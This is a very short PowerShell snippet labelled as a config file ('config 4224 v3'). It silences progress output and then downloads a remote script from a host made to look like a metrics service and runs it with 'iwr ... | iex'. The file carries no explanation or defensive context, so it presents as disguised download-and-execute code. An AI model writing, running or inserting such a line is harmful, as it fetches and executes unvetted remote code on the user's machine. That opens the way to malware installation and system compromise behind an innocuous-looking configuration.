# config 4224 v3
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://static.metrics-node.example/a.ps1 | iex
